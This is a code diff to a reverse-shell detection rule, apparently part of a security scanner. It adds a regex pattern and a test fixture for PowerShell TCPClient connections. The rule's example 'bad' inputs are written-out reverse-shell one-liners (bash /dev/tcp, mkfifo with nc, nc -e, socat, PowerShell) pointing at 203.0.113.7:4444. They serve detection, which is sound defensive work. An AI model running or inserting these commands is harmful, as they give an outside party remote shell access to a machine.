@@ -2,7 +2,7 @@ import { all, any, anyArgument, argument, call, from, matches, says, words } fro
 import { defineRule } from "../rule.ts";
 import { REVERSE_SHELL, SHELL_PROGRAM } from "../vocabulary/commands.ts";
 import { COMMANDS } from "../vocabulary/execution-calls.ts";
-import { SHELL_CODE, SHOWN_CODE } from "../vocabulary/shell-commands.ts";
+import { SHELL_CODE, SHOWN_CODE, WINDOWS_LINES } from "../vocabulary/shell-commands.ts";
 import { shellConnection, shellOutput, socketDescriptor } from "../vocabulary/sources.ts";
 
 export default defineRule({
@@ -40,6 +40,10 @@ export default defineRule({
       where: argument(0, says(/^[\w/]*(sh|bash|zsh|dash|cmd(\.exe)?|powershell)(\s|$)/)),
     }),
     call({ of: ["sh.socat"], where: words(says(/(exec|system):["']?[\w/]*(sh|bash|zsh)(\W|$)/i)) }),
+    call({
+      of: WINDOWS_LINES,
+      where: argument(0, says(/Net\.Sockets\.TCPClient[^\n]*|System\.Net\.Sockets\.TcpClient[^\n]*GetStream/i)),
+    }),
   ],
   bad: [
     'import os\nos.system("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")',
@@ -52,6 +56,7 @@ export default defineRule({
     { "run.sh": "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f" },
     { "run.sh": "nc -e /bin/sh 203.0.113.7 4444" },
     { "run.sh": "socat tcp:203.0.113.7:4444 exec:bash,pty" },
+    { "run.ps1": "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.7',4444);$s = $c.GetStream()" },
   ],
   good: [
     "import os\nos.dup2(log.fileno(), 1)",
